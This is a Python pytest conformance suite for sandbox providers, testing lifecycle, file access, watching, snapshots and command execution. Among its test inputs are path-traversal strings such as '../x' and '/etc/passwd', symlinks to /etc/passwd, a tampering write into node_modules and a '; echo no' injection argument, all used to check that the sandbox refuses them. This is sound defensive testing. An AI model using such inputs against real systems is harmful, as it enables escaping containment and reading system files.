"""What every sandbox provider must do, whatever stands behind it; each provider's tests inherit all of it.

A provider's test module defines the fixtures ``provider`` and ``leftovers`` (ids, and what is left of them) and a class
that inherits ``SandboxConformance``. The template it uses holds ``src/App.tsx``, ``src/scenes/one.tsx``,
``public/logo.svg`` and a ``package.json`` with the script ``hello``; ``node_modules`` holds ``left-pad``.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, AsyncIterator, Awaitable, Callable
from contextlib import aclosing, asynccontextmanager, suppress

import httpx
import pytest

from koda_ray.errors import (
    CommandBlocked,
    CommandTimeout,
    InvalidInput,
    InvalidPath,
    KodaError,
    NotFound,
    QuotaExceeded,
    SandboxError,
    SandboxNotFound,
)
from koda_ray.sandbox.base import FileChange, PreviewEndpoint, Sandbox, SandboxProvider
from koda_ray.sandbox.preview import BAD_GATEWAY, http_client
from koda_ray.sandbox.watching import MAX_BATCH
from koda_ray.types import new_id
from tests.sandbox.begun import timed_out
from tests.sandbox.leftovers import Leftovers
from tests.sandbox.refusals import refusals

__all__ = ["SandboxConformance"]


class SandboxConformance:
    """The suite."""

    @pytest.fixture
    async def box(self, provider: SandboxProvider, leftovers: Leftovers) -> AsyncIterator[Sandbox]:
        made = await provider.create(sandbox_id=leftovers.new_id(), session_id="ses_a", user_id="usr_a")
        yield made
        await made.destroy()

    # lifecycle

    @pytest.mark.quick
    async def test_it_starts_as_the_template(self, box: Sandbox, provider: SandboxProvider) -> None:
        assert await box.is_alive()
        assert box.provider == provider.name
        paths = [entry.path for entry in await box.list_files(recursive=True)]
        assert paths == sorted(paths)
        assert {"package.json", "public/logo.svg", "src", "src/App.tsx", "src/scenes", "src/scenes/one.tsx"} <= set(
            paths
        )
        assert not any(path.startswith(("node_modules", "dist")) for path in paths)

    async def test_one_that_was_made_can_be_found_and_listed(self, box: Sandbox, provider: SandboxProvider) -> None:
        again = await provider.connect(box.id)
        assert (await again.read_file("public/logo.svg")) == b"<svg/>\n"
        info = next(info for info in await provider.list() if info.id == box.id)
        assert (info.session_id, info.user_id, info.alive) == ("ses_a", "usr_a", True)
        assert info.provider_id == box.provider_id == again.provider_id != ""

    async def test_making_one_twice_gives_the_same(self, box: Sandbox, provider: SandboxProvider) -> None:
        await box.write_files({"src/kept.ts": b"1"})
        again = await provider.create(sandbox_id=box.id, session_id="ses_a", user_id="usr_a")
        assert await again.read_file("src/kept.ts") == b"1"

    @pytest.mark.quick
    async def test_a_destroyed_one_is_gone_for_everybody(self, box: Sandbox, provider: SandboxProvider) -> None:
        await box.destroy()
        await box.destroy()
        await provider.destroy(box.id)
        assert not await box.is_alive()
        assert box.id not in [info.id for info in await provider.list()]
        for call in (
            box.read_file("src/App.tsx"),
            box.write_files({"src/a.ts": b""}),
            box.list_files(),
            box.run(("true",)),
            box.start("server", ("true",)),
            box.snapshot(),
            provider.connect(box.id),
        ):
            with pytest.raises(SandboxNotFound):
                await call

    async def test_an_unknown_one_is_not_found(self, provider: SandboxProvider) -> None:
        with pytest.raises(SandboxNotFound):
            await provider.connect(new_id("sbx"))
        await provider.destroy(new_id("sbx"))

    async def test_whoever_connects_at_once_gets_the_same(self, box: Sandbox, provider: SandboxProvider) -> None:
        await provider.close()  # as the next program finds it
        found = await asyncio.gather(*(provider.connect(box.id) for _ in range(8)))
        assert {id(one) for one in found} == {id(found[0])}
        done = await asyncio.gather(*(one.run(("sh", "-c", f"echo {turn}")) for turn, one in enumerate(found)))
        assert [one.stdout for one in done] == [f"{turn}\n" for turn in range(8)], done
        await asyncio.gather(*(one.start(f"idle{turn}", ("sleep", "60")) for turn, one in enumerate(found)))
        assert len(await found[0].processes()) == 8
        await provider.destroy(box.id)
        assert [await one.is_alive() for one in found] == [False] * 8

    async def test_made_and_found_at_once_it_is_one(self, provider: SandboxProvider, leftovers: Leftovers) -> None:
        name = leftovers.new_id()
        made = await asyncio.gather(
            *(provider.create(sandbox_id=name, session_id="ses_a", user_id="usr_a") for _ in range(3))
        )
        assert {id(one) for one in made} == {id(await provider.connect(name))}
        assert [info.id for info in await provider.list()].count(name) == 1
        await provider.destroy(name)

    async def test_found_while_it_is_made_it_is_whole(self, provider: SandboxProvider, leftovers: Leftovers) -> None:
        name = leftovers.new_id()
        making = asyncio.create_task(provider.create(sandbox_id=name, session_id="ses_a", user_id="usr_a"))
        asking: list[asyncio.Task[tuple[Sandbox, str]]] = []

        async def ask() -> tuple[Sandbox, str]:
            found = await provider.connect(name)
            return found, found.state

        while not making.done():
            await asyncio.sleep(0.02)
            asking.append(asyncio.create_task(ask()))
        found = await asyncio.gather(*asking)
        assert {state for _, state in found} == {"ready"}
        assert {id(one) for one, _ in found} == {id(await making)}
        await provider.destroy(name)

    async def test_closed_while_one_is_made_it_is_closed_too(
        self, provider: SandboxProvider, leftovers: Leftovers
    ) -> None:
        name = leftovers.new_id()
        making = asyncio.create_task(provider.create(sandbox_id=name, session_id="ses_a", user_id="usr_a"))
        await asyncio.sleep(0)  # it has begun
        await provider.close()
        again = await provider.connect(name)
        assert again is not await making
        assert (await again.run(("true",))).exit_code == 0
        await provider.destroy(name)

    async def test_closed_while_others_ask_for_it_they_get_one_that_is_open(
        self, box: Sandbox, provider: SandboxProvider
    ) -> None:
        before = [asyncio.create_task(provider.connect(box.id)) for _ in range(4)]
        closing = asyncio.create_task(provider.close())
        await asyncio.sleep(0)
        after = await asyncio.gather(*(provider.connect(box.id) for _ in range(4)))
        await closing
        assert {id(one) for one in after} == {id(after[0])} and after[0] is not box
        assert {id(one) for one in await asyncio.gather(*before)} <= {id(box), id(after[0])}
        assert (await after[0].run(("true",))).exit_code == 0

    async def test_what_was_let_go_of_does_nothing_more(self, box: Sandbox, provider: SandboxProvider) -> None:
        await provider.close()
        for call in (
            box.run(("true",)),
            box.start("idle", ("sleep", "60")),
            box.read_file("package.json"),
            box.write_files({"src/late.ts": b"late"}),
            box.snapshot(),
        ):
            with pytest.raises(SandboxError, match=r"let go of the sandbox \w+; connect to it again") as caught:
                await call
            assert caught.value.code == "PROVIDER_ERROR"
        again = await provider.connect(box.id)
        assert "src/late.ts" not in [entry.path for entry in await again.list_files("src")]
        await again.write_files({"src/late.ts": b"late"})

    @pytest.mark.parametrize("open_already", [False, True], ids=["closed", "open"])
    async def test_destroyed_while_others_connect(
        self, box: Sandbox, provider: SandboxProvider, open_already: bool
    ) -> None:
        if not open_already:
            await provider.close()
        before = [asyncio.create_task(provider.connect(box.id)) for _ in range(3)]
        ending = [asyncio.create_task(provider.destroy(box.id)) for _ in range(2)]
        after = [asyncio.create_task(provider.connect(box.id)) for _ in range(3)]
        await asyncio.gather(*ending)
        for connecting in (*before, *after):
            with suppress(SandboxNotFound):
                found = await connecting
                assert not await found.is_alive()
                with pytest.raises(SandboxNotFound):
                    await found.run(("true",))
        with pytest.raises(SandboxNotFound):
            await provider.connect(box.id)

    @pytest.mark.quick
    async def test_destroyed_during_a_command(self, box: Sandbox, provider: SandboxProvider) -> None:
        running = asyncio.create_task(box.run(("sh", "-c", "echo started > src/started.ts; sleep 60"), timeout_s=90))
        await _until(lambda: _exists(box, "src/started.ts"))
        await provider.destroy(box.id)
        with pytest.raises(SandboxNotFound):
            await running

    # files

    @pytest.mark.quick
    async def test_what_is_written_can_be_read(self, box: Sandbox) -> None:
        files = {
            "src/components/Ball.tsx": b"export const Ball = 1;\n",
            "public/assets/image.png": bytes(range(256)) * 40,
            "src/日本語.ts": "export const 名 = '球';\n".encode(),
            "src/empty.ts": b"",
            "vite.config.ts": b"export default {};\n",
        }
        await box.write_files(files)
        assert await box.read_files(list(files)) == files
        seen = await box.run(("cat", "src/components/Ball.tsx"))
        assert seen.stdout == "export const Ball = 1;\n"

    async def test_a_written_file_belongs_to_the_commands_too(self, box: Sandbox) -> None:
        await box.write_files({"src/deep/er/file.ts": b"1"})
        done = await box.run(
            ("sh", "-c", "echo 2 > src/deep/er/file.ts && rm -r src/deep/er && echo 3 > src/deep/new.ts")
        )
        assert (done.exit_code, done.stderr) == (0, "")
        assert await box.read_file("src/deep/new.ts") == b"3\n"

    async def test_an_absolute_path_inside_the_project_is_the_same_file(self, box: Sandbox) -> None:
        await box.write_files({"/home/user/project/src/a.ts": b"a"})
        assert await box.read_file("src/./a.ts") == b"a"
        assert await box.read_file("/home/user/project/src/a.ts") == b"a"

    async def test_nothing_is_written_when_one_path_is_wrong(self, box: Sandbox) -> None:
        with pytest.raises(InvalidPath) as caught:
            await box.write_files({"src/good.ts": b"1", "../bad.ts": b"2"})
        assert "../bad.ts" in caught.value.message
        with pytest.raises(NotFound):
            await box.read_file("src/good.ts")

    @pytest.mark.parametrize(
        "path",
        ["", "..", "../x", "src/../../x", "/etc/passwd", "/home/user/project/../x", "src/a\0b", "src/a\nb", "src\\a.ts",
         "C:/x.ts", "src/" + "a" * 256, "src/" + "a/" * 600 + "x", "node_modules/x.js", "/home/user/project",
         "src/\ud800"],
    )  # fmt: skip
    async def test_paths_that_cannot_be_written(self, box: Sandbox, path: str) -> None:
        with pytest.raises(InvalidPath):
            await box.write_files({path: b"x"})
        with pytest.raises(InvalidPath):
            await box.remove(path)

    async def test_a_file_may_be_called_as_any_program_wants(self, box: Sandbox) -> None:
        files = {"main.py": b"1", "Makefile": b"2", "notes/x.md": b"3", "dist/x.js": b"4", ".config/app": b"5"}
        await box.write_files(files)
        for path, data in files.items():
            assert await box.read_file(path) == data
            await box.remove(path)
            with pytest.raises(NotFound):
                await box.read_file(path)

    async def test_what_stands_in_the_way_of_a_file_is_named_with_the_way_out(self, box: Sandbox) -> None:
        await box.write_files({"src/folder/one.ts": b"1", "src/plain.ts": b"2"})
        for path, words in (
            ("src/folder", "'src/folder' could not be written.*a directory.*remove it, or choose another"),
            ("src/plain.ts/two.ts", "'src/plain.ts'.* is a file, not a directory; remove that"),
        ):
            with pytest.raises(SandboxError, match=words) as caught:
                await box.write_files({path: b"3"})
            assert caught.value.code == "WRITE_FAILED" and caught.value.context["path"] == path
        with pytest.raises(SandboxError, match="is a directory; list it instead"):
            await box.read_file("src/folder")
        assert await box.read_file("src/plain.ts") == b"2"

    async def test_a_missing_file_is_named(self, box: Sandbox) -> None:
        for path in ("src/none.ts", "src/App.tsx/none.ts", "none/at/all.ts"):
            with pytest.raises(NotFound) as caught:
                await box.read_file(path)
            assert caught.value.code == "FILE_NOT_FOUND"
            assert path in caught.value.message
        with pytest.raises(NotFound):
            await box.list_files("src/none")

    async def test_listing(self, box: Sandbox) -> None:
        await box.write_files({"src/scenes/two.tsx": b"12345"})
        assert [(e.path, e.type, e.size_bytes) for e in await box.list_files("src/scenes")] == [
            ("src/scenes/one.tsx", "file", len(await box.read_file("src/scenes/one.tsx"))),
            ("src/scenes/two.tsx", "file", 5),
        ]
        top = await box.list_files()
        assert {(entry.path, entry.type) for entry in top} >= {("src", "directory"), ("package.json", "file")}
        assert not any("/" in entry.path for entry in top)

    async def test_the_build_is_listed_only_when_it_is_asked_for(self, box: Sandbox) -> None:
        await box.run(
            ("sh", "-c", "mkdir -p dist/assets .vite && echo x > dist/index.html && echo y > dist/assets/a.js")
        )
        assert not any(entry.path.startswith(("dist", ".vite")) for entry in await box.list_files(recursive=True))
        assert [e.path for e in await box.list_files("dist", recursive=True)] == [
            "dist/assets", "dist/assets/a.js", "dist/index.html"
        ]  # fmt: skip
        assert await box.read_file("dist/index.html") == b"x\n"

    async def test_removing(self, box: Sandbox) -> None:
        await box.write_files({"src/a/b.ts": b"", "src/a/c/d.ts": b"", "src/e.ts": b""})
        await box.remove("src/a")
        await box.remove("src/e.ts")
        await box.remove("src/never/was.ts")
        assert [entry.path for entry in await box.list_files("src")] == ["src/App.tsx", "src/scenes"]

    async def test_packages_can_be_used_and_not_changed(self, box: Sandbox) -> None:
        done = await box.run(("node", "-p", "require('left-pad')('x')"))
        assert done.stdout == " x\n"
        changed = await box.run(("sh", "-c", "echo bad >> node_modules/left-pad/index.js"))
        assert changed.exit_code != 0

    # watching

    async def test_changes_are_told_once_and_whoever_makes_them(self, box: Sandbox) -> None:
        async with _watching(box) as told:
            await box.write_files({"src/new.ts": b"1", "src/App.tsx": b"changed"})
            await told.until({"src/new.ts": "added", "src/App.tsx": "modified"})
            done = await box.run(
                ("sh", "-c", "mkdir -p src/a/b && echo 1 > src/a/b/c.ts && mv src/new.ts src/moved.ts; rm src/App.tsx")
            )
            assert done.exit_code == 0
            await told.until(
                {"src/a/b/c.ts": "added", "src/moved.ts": "added", "src/new.ts": "removed", "src/App.tsx": "removed"}
            )
            # a directory that is new since the watch began is watched too
            await box.run(("sh", "-c", "echo 2 > src/a/b/c.ts"))
            await told.until({"src/a/b/c.ts": "modified"})

    async def test_what_is_built_or_installed_is_not_told(self, box: Sandbox) -> None:
        async with _watching(box) as told:
            await box.run(
                ("sh", "-c", "mkdir -p dist .vite && echo 1 > dist/a.js && echo 1 > .vite/b && ln -s a src/l")
            )
            await box.write_files({"src/last.ts": b""})
            await told.until({"src/last.ts": "added"})

    async def test_a_storm_of_writes_is_few_changes(self, box: Sandbox) -> None:
        await box.write_files({"src/storm.ts": b"calm"})
        async with _watching(box, "src") as told:
            script = "i=0; while [ $i -lt 3000 ]; do echo $i > src/storm.ts; i=$((i+1)); done; echo x > outside.ts"
            await box.run(("sh", "-c", script), timeout_s=60)
            await box.write_files({"src/after.ts": b""})
            await told.until({"src/storm.ts": "modified", "src/after.ts": "added"})
            assert told.count < 100
            assert "outside.ts" not in told.seen

    async def test_what_changes_while_nobody_takes_batches_is_told_then(self, box: Sandbox) -> None:
        changes = box.watch()
        assert await anext(changes) == ()
        await box.write_files({f"src/many/{number}.ts": b"" for number in range(2500)})
        await box.write_files({"src/many/0.ts": b"again"})
        found: list[str] = []
        async with asyncio.timeout(60):
            while len(found) < 2500:
                batch = await anext(changes)
                assert 0 < len(batch) <= MAX_BATCH
                found += [change.path for change in batch if change.kind == "added"]
        assert sorted(found) == sorted(f"src/many/{number}.ts" for number in range(2500))
        await changes.aclose()

    async def test_watching_what_is_not_there(self, box: Sandbox) -> None:
        for path, error in (("src/none", NotFound), ("../..", InvalidPath), ("src/App.tsx", NotFound)):
            changes = box.watch(path)
            with pytest.raises(error):
                await anext(changes)

    async def test_a_watch_ends_with_its_sandbox(self, box: Sandbox, provider: SandboxProvider) -> None:
        changes = box.watch()
        await anext(changes)
        waiting = asyncio.create_task(anext(changes))
        await asyncio.sleep(0.1)
        await provider.destroy(box.id)
        with pytest.raises(SandboxNotFound):
            async with asyncio.timeout(60):
                await waiting

    # its life

    async def test_it_is_busy_while_commands_run_and_then_stopped(self, box: Sandbox) -> None:
        assert box.state == "ready"
        first, second = (
            asyncio.create_task(box.run(("sh", "-c", f"echo 1 > src/{name}.ts; while [ ! -e src/{name}.end ]; do "
                                         "sleep 0.02; done")))
            for name in ("one", "two")
        )  # fmt: skip
        await _until(lambda: _exists(box, "src/one.ts"))
        await _until(lambda: _exists(box, "src/two.ts"))
        assert box.state == "busy"
        await box.run(("touch", "src/one.end"))
        await first
        assert box.state == "busy"
        await box.run(("touch", "src/two.end"))
        await second
        assert box.state == "ready"
        await box.destroy()
        assert not await box.is_alive()
        assert box.state == "stopped"

    async def test_its_lifetime_can_be_extended(self, box: Sandbox) -> None:
        left_s = await box.extend(7000)
        assert left_s is None or 6900 < left_s <= 7000
        shorter_s = await box.extend(60)
        assert shorter_s is None or shorter_s > 6800
        for wrong in (0, -1, 0.5, float("nan"), float("inf"), 86_401):
            with pytest.raises(InvalidInput):
                await box.extend(wrong)
        await box.destroy()
        with pytest.raises(SandboxNotFound):
            await box.extend(60)

    # checkpoints

    async def test_a_snapshot_holds_all_files_and_then_only_what_changed(self, box: Sandbox) -> None:
        await box.run(("sh", "-c", "mkdir notes && echo n > notes/n.txt && ln -s ../package.json src/link.json"))
        first = await box.snapshot()
        assert {"package.json", "src/App.tsx", "notes/n.txt"} <= set(first.changed)
        assert set(first.changed) == set(first.stamps)
        assert first.skipped == {"src/link.json": "link"}
        await asyncio.sleep(0.05)  # longer than the time for which a fresh file is distrusted
        settled = await box.snapshot(known=first.stamps)
        assert not (await box.snapshot(known=settled.stamps)).changed
        await box.write_files({"src/App.tsx": b"changed"})
        await box.remove("src/scenes/one.tsx")
        then = await box.snapshot(known=settled.stamps)
        assert then.changed == {"src/App.tsx": b"changed"}
        assert then.removed == ("src/scenes/one.tsx",)

    @pytest.mark.quick
    async def test_a_restored_project_is_exactly_what_was_saved(self, box: Sandbox) -> None:
        await box.write_files({"src/a/b.ts": b"b", "public/assets/c.bin": b"\x00\xff"})
        await box.run(("sh", "-c", "mkdir -p notes && echo n > notes/n.txt"))
        saved = (await box.snapshot()).changed
        await box.run(
            (
                "sh",
                "-c",
                "rm -r src notes; echo x > notes; mkdir -p p.json.d src/x; ln -s /etc/passwd public/l; echo y > y",
            )
        )
        await box.restore(saved)
        assert (await box.snapshot()).changed == saved
        assert not (await box.snapshot()).skipped
        left = {entry.path for entry in await box.list_files(recursive=True)}
        assert left == set(saved) | {"src", "src/a", "src/scenes", "public", "public/assets", "notes"}

    async def test_modes_and_empty_folders_come_back(
        self, box: Sandbox, provider: SandboxProvider, leftovers: Leftovers
    ) -> None:
        script = (  # whether rights can be lent inside is the walls' affair
            "mkdir -p scripts public/frames/raw src/only-a-link 'src/空 フォルダ' && ln -s ../a src/only-a-link/l && "
            "printf '#!/bin/sh\\necho ran\\n' > scripts/go.sh && printf x > src/日本語.txt && "
            "chmod 755 scripts/go.sh && { chmod 6751 src/日本語.txt || chmod 2751 src/日本語.txt; } && "
            "chmod 444 src/App.tsx && chmod 2775 src/scenes"
        )
        done = await box.run(("sh", "-c", script))
        assert done.exit_code == 0, done.stderr
        saved = await box.snapshot()
        modes = {"scripts/go.sh": 0o755, "src/App.tsx": 0o444, "src/日本語.txt": 0o751, "src/scenes": 0o775}
        folders = ("public/frames/raw", "src/only-a-link", "src/空 フォルダ")
        assert (saved.modes, saved.folders) == (modes, folders)
        other = await provider.create(sandbox_id=leftovers.new_id(), session_id="ses_a", user_id="usr_a")
        try:
            spoil = "mkdir -p public/frames/raw/more src/gone; touch src/空; chmod 777 package.json"
            assert (await other.run(("sh", "-c", spoil))).exit_code == 0
            await other.restore(saved.changed, modes={**modes, "src/日本語.txt": 0o6751}, folders=folders)
            again = await other.snapshot()
            assert (again.changed, again.modes, again.folders) == (saved.changed, modes, folders)
            assert (await other.run(("scripts/go.sh",))).stdout == "ran\n"
            looked = await other.run(("find", "src/日本語.txt", "package.json", "-printf", "%m "))
            assert looked.stdout.split() == ["751", "644"]
            folders_now = await other.run(("find", "src/scenes", "src", "-maxdepth", "0", "-printf", "%m "))
            assert folders_now.stdout.split() == ["775", "755"]
            # only the mode is another one: it is told, and put back
            await other.run(("chmod", "755", "src/scenes"))
            assert (await other.snapshot()).modes == {path: modes[path] for path in modes if path != "src/scenes"}
            await other.run(("sh", "-c", "chmod 775 src/scenes && chmod -x scripts/go.sh"))
            assert (await other.snapshot()).modes == {path: modes[path] for path in modes if path != "scripts/go.sh"}
            await other.restore(saved.changed, modes=modes, folders=())
            after = await other.snapshot()
            assert (after.modes, after.folders) == (modes, ())
        finally:
            await other.destroy()

    async def test_what_cannot_be_read_is_named_and_never_taken_for_removed(self, box: Sandbox) -> None:
        await box.write_files({"public/film.bin": b"short", "src/kept/in/deep.ts": b"deep"})
        saved = await box.snapshot()
        script = (  # a shell, because a path of that length cannot be named at once
            "ln -s App.tsx src/alias.tsx && mkfifo src/pipe && cd src && "
            "n=$(printf 'd%.0s' $(seq 200)) && for i in 1 2 3 4 5 6; do mkdir $n && cd $n; done && echo lost > lost.ts"
        )
        done = await box.run(("sh", "-c", script))
        assert done.exit_code == 0, done.stderr
        large = await _made_large(box, "public/film.bin")
        then = await box.snapshot(known=saved.stamps)
        deep = next(path for path in then.skipped if "ddd" in path)
        assert then.skipped == {"src/alias.tsx": "link", "src/pipe": "special", deep: "deep"} | large
        assert then.removed == () and saved.stamps.keys() == then.stamps.keys()
        for mode in ("300", "600", "0"):  # a reader who may do anything sees what is below all the same
            assert (await box.run(("chmod", mode, "src/kept"))).exit_code == 0
            shut = await box.snapshot(known=saved.stamps)
            assert (shut.removed, set(shut.stamps)) == ((), set(saved.stamps))
            seen = await box.snapshot()
            assert ("src/kept/in/deep.ts" in seen.changed) != (seen.skipped.get("src/kept") == "unreadable")
        await box.restore(saved.changed, modes=saved.modes, folders=saved.folders)
        again = await box.snapshot()
        assert (again.changed, again.modes, again.skipped) == (saved.changed, saved.modes, {})

    @pytest.mark.full
    async def test_files_of_holes_fill_no_more_than_a_disk_may(self, box: Sandbox) -> None:
        """Each is smaller than what is read at once, together they are larger, and on the disk they take nothing."""
        await box.write_files({"src/new.ts": b"new"})
        script = "for i in $(seq 10 29); do truncate -s 40M public/$i.bin || exit 1; done"
        assert (await box.run(("sh", "-c", script))).exit_code == 0
        taken = await box.snapshot()
        assert {"src/new.ts", "src/App.tsx", "package.json"} <= taken.changed.keys()
        assert sum(map(len, taken.changed.values())) < 480 << 20
        assert len(taken.skipped) > 5 and set(taken.skipped.values()) == {"large"}
        with pytest.raises(QuotaExceeded, match=r"more than the 268435456 that can be read at once; read fewer"):
            await box.read_files([f"public/{number}.bin" for number in range(10, 30)])
        assert await box.read_file("src/new.ts") == b"new"
        assert (await box.run(("sh", "-c", "rm public/*.bin"))).exit_code == 0
        assert (await box.snapshot()).skipped == {}

    async def test_links_that_lead_out_are_told_of(self, box: Sandbox, capsys: pytest.CaptureFixture[str]) -> None:
        links = {"etc": "/etc", "up": "../../../../etc/passwd", "to": "../package.json", "tmp": "/tmp/x",
                 "whole": "/home/user/project/src"}  # fmt: skip
        script = " && ".join(f"ln -s {target} src/{name}" for name, target in links.items())
        assert (await box.run(("sh", "-c", script))).exit_code == 0
        skipped = {f"src/{name}": "outside" if name in ("etc", "up") else "link" for name in links}
        assert refusals(capsys, box.id) == set()
        assert (await box.snapshot()).skipped == skipped
        assert refusals(capsys, box.id) == {"link"}
        await box.snapshot()
        assert refusals(capsys, box.id) == set(), "it was told before"
        assert (await box.run(("sh", "-c", "mkdir dist; ln -s /etc/passwd dist/index.html"))).exit_code == 0
        assert await box.list_files("dist", recursive=True) == []
        assert refusals(capsys, box.id) == {"link"}

    async def test_what_no_snapshot_holds_may_be_spared(self, box: Sandbox) -> None:
        script = (
            "mkdir -p public/films/in public/other/in && ln -s film.bin public/films/in/link && "
            "echo x > public/films/in/x && echo x > public/other/in/x"
        )
        assert (await box.run(("sh", "-c", script))).exit_code == 0
        large = await _made_large(box, "public/films/in/film.bin")
        skipped = (await box.snapshot()).skipped
        assert skipped == {"public/films/in/link": "link"} | large
        await box.restore({"src/App.tsx": b"only"}, spared=list(skipped))
        then = await box.snapshot()
        assert (then.changed, then.skipped) == ({"src/App.tsx": b"only"}, skipped)
        await box.write_files({"public/other/x": b"x", "src/more.ts": b"more"})
        await box.restore({"src/App.tsx": b"more"}, spared=None)
        then = await box.snapshot()
        assert (then.changed, then.skipped) == ({"src/App.tsx": b"more"}, skipped)
        await box.restore(then.changed | {"public/films/in/link": b"a file"}, spared=None)
        now = await box.snapshot()
        assert (now.changed["public/films/in/link"], now.skipped) == (b"a file", large)
        await box.restore(then.changed)
        assert [entry.path for entry in await box.list_files(recursive=True)] == ["src", "src/App.tsx"]

    async def test_a_script_that_is_written_anew_still_runs(self, box: Sandbox) -> None:
        await box.write_files({"scripts/go.sh": b"#!/bin/sh\necho one\n"})
        assert (await box.run(("scripts/go.sh",))).exit_code != 0
        await box.run(("chmod", "755", "scripts/go.sh"))
        await box.write_files({"scripts/go.sh": b"#!/bin/sh\necho two\n"})
        assert (await box.run(("scripts/go.sh",))).stdout == "two\n"
        await box.run(("sh", "-c", "rm scripts/go.sh && mkfifo scripts/go.sh && chmod 755 scripts/go.sh"))
        await box.write_files({"scripts/go.sh": b"#!/bin/sh\necho three\n"})
        assert (await box.snapshot()).modes == {}

    async def test_folders_that_cannot_be_restored(self, box: Sandbox) -> None:
        before = await box.snapshot()
        for folder in ("../out", "node_modules/x", "", "/etc/x", "src/a\nb"):
            with pytest.raises(InvalidPath):
                await box.restore(before.changed, folders=(folder,))
        assert (await box.snapshot()).changed == before.changed

    async def test_restoring_what_is_there_already_touches_nothing(self, box: Sandbox) -> None:
        await box.run(("sh", "-c", "chmod 755 package.json && mkdir src/empty"))
        await asyncio.sleep(0.05)
        before = await box.snapshot()
        await box.restore(before.changed, modes=before.modes, folders=before.folders)
        after = await box.snapshot(known=before.stamps)
        assert (after.changed, after.modes, after.folders) == ({}, before.modes, ("src/empty",))

    @pytest.mark.quick
    async def test_of_what_is_restored_only_what_differs_goes_there(self, box: Sandbox) -> None:
        await box.write_files({f"src/kept/{name}.ts": bytes(name, "utf-8") * 50_000 for name in "abcdef"})
        await box.write_files({"src/kept/g.ts": b"f" * 50_000, "src/空.ts": b""})
        await asyncio.sleep(0.05)  # longer than the time for which a fresh file is distrusted
        saved = await box.snapshot()
        script = (
            "cd src/kept && printf '%50000s' | tr ' ' x > a.ts && rm b.ts && mv c.ts moved.ts && chmod 755 d.ts && "
            "truncate -s 49999 e.ts && ln -sf g.ts f.ts && rm ../App.tsx && mkdir -p ../App.tsx/in && chmod 0 g.ts"
        )
        assert (await box.run(("sh", "-c", script))).exit_code == 0
        sent_bytes = await box.restore(saved.changed, modes=saved.modes, folders=saved.folders)
        differ = ["src/kept/a.ts", "src/kept/b.ts", "src/kept/c.ts", "src/kept/e.ts", "src/kept/f.ts", "src/App.tsx"]
        wanted = sum(len(saved.changed[path]) for path in differ)
        assert sent_bytes in (
            wanted,
            wanted + 50_000,
        )  # what its owner may not read is sent to a reader who is no other
        after = await box.snapshot()
        assert (after.changed, after.modes, after.folders, after.skipped) == (saved.changed, saved.modes, (), {})
        placed = {*differ, "src/kept/d.ts", "src/kept/g.ts"}  # of these only the mode was another one
        untouched = saved.stamps.keys() - placed
        assert untouched >= {"package.json", "src/空.ts", "public/logo.svg"}
        assert {path: after.stamps[path] for path in untouched} == {path: saved.stamps[path] for path in untouched}
        assert await box.restore(saved.changed, modes=saved.modes, folders=saved.folders) == 0

    # commands

    @pytest.mark.quick
    async def test_a_command_leaves_output_and_code(self, box: Sandbox) -> None:
        done = await box.run(
            ("sh", "-c", 'echo out; echo err >&2; echo "$GREETING"; pwd; exit 7'), env={"GREETING": "hi 'x'"}
        )
        assert (done.exit_code, done.stdout, done.stderr) == (7, "out\nhi 'x'\n/home/user/project\n", "err\n")
        assert done.duration_s > 0 and not done.truncated

    async def test_arguments_are_not_a_shell_string(self, box: Sandbox) -> None:
        done = await box.run(("printf", "%s|", "a b", "$HOME", "; echo no", "*"))
        assert done.stdout == "a b|$HOME|; echo no|*|"

    async def test_a_command_runs_where_it_is_told(self, box: Sandbox) -> None:
        assert (await box.run(("pwd",), cwd="src/scenes")).stdout == "/home/user/project/src/scenes\n"
        with pytest.raises(NotFound):
            await box.run(("pwd",), cwd="src/none")
        with pytest.raises(InvalidPath):
            await box.run(("pwd",), cwd="../..")

    async def test_a_program_that_is_not_there(self, box: Sandbox) -> None:
        done = await box.run(("no-such-program",))
        assert done.exit_code == 127 or done.exit_code == 1
        assert "no-such-program" in done.stderr

    async def test_scripts_of_the_project_run(self, box: Sandbox) -> None:
        for tool in ("bun", "npm"):
            done = await box.run((tool, "run", "hello"))
            assert (done.exit_code, done.stdout) == (0, "hello from a script\n"), done.stderr
        assert (await box.run(("bun", "install"))).exit_code == 0
        assert (await box.run(("bun", "add", "gsap"))).exit_code != 0

    async def test_long_output_is_cut_in_the_middle(self, box: Sandbox) -> None:
        done = await box.run(("sh", "-c", "echo first; seq 1 400000; echo last"), timeout_s=60)
        assert done.truncated
        assert done.stdout.startswith("first\n1\n2\n")
        assert done.stdout.endswith("400000\nlast\n")
        assert "left out" in done.stdout
        assert len(done.stdout) < 600_000

    @pytest.mark.full
    async def test_a_timeout_ends_the_whole_tree(self, box: Sandbox) -> None:
        daemon = "(setsid sh -c 'while :; do date +%s%N > src/beat.ts; sleep 0.02; done' &)"
        script = f"trap '' TERM INT HUP; echo before the end; {daemon}; while :; do sleep 1; done"
        error = await timed_out(box, ("sh", "-c", script), begun=["src/beat.ts"])
        assert "before the end" in error.message
        last = await box.read_file("src/beat.ts")
        await asyncio.sleep(0.2)
        assert await box.read_file("src/beat.ts") == last

    @pytest.mark.quick
    async def test_a_daemon_does_not_outlive_its_command(self, box: Sandbox) -> None:
        done = await box.run(
            ("sh", "-c", "(setsid sh -c 'while :; do date +%s%N > src/beat.ts; sleep 0.02; done' >/dev/null 2>&1 &) & "
             "while [ ! -s src/beat.ts ]; do sleep 0.02; done"),
        )  # fmt: skip
        assert done.exit_code == 0
        last = await box.read_file("src/beat.ts")
        await asyncio.sleep(0.2)
        assert await box.read_file("src/beat.ts") == last

    async def test_a_cancelled_command_is_ended(self, box: Sandbox) -> None:
        running = asyncio.create_task(
            box.run(("sh", "-c", "while :; do date +%s%N > src/beat.ts; sleep 0.02; done"), timeout_s=90)
        )
        await _until(lambda: _exists(box, "src/beat.ts"))
        running.cancel()
        with pytest.raises(asyncio.CancelledError):
            await running
        last = await box.read_file("src/beat.ts")
        await asyncio.sleep(0.2)
        assert await box.read_file("src/beat.ts") == last

    async def test_a_command_that_asks_for_the_network_is_otherwise_the_same(self, box: Sandbox) -> None:
        done = await box.run(("sh", "-c", "echo out; echo err >&2; exit 7"), network=True)
        assert (done.exit_code, done.stdout, done.stderr) == (7, "out\n", "err\n")
        assert (await box.start("idle", ("sleep", "60"), network=True)).running
        await box.stop("idle")

    async def test_commands_run_side_by_side(self, box: Sandbox) -> None:
        done = await asyncio.gather(*(box.run(("sh", "-c", f"sleep 0.1; echo {n}")) for n in range(8)))
